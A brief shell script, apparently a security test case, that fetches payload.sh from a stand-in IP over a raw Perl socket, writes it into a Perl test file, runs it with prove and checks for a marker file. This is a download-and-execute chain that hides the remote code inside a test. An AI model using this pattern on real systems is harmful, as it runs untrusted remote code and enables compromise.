#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/app/t
perl -MIO::Socket::INET -e '
my $s = IO::Socket::INET->new("203.0.113.10:80") or die; print $s "GET /payload.sh HTTP/1.0\r\n\r\n";
local $/; my $r = <$s>; $r =~ s/.*?\r\n\r\n//s; open my $f, ">", "/srv/app/t/basic.t"; print $f $r, "echo 1..1; echo ok 1\n"'
prove -Q --exec sh /srv/app/t/basic.t
test -e /tmp/reached
took_place
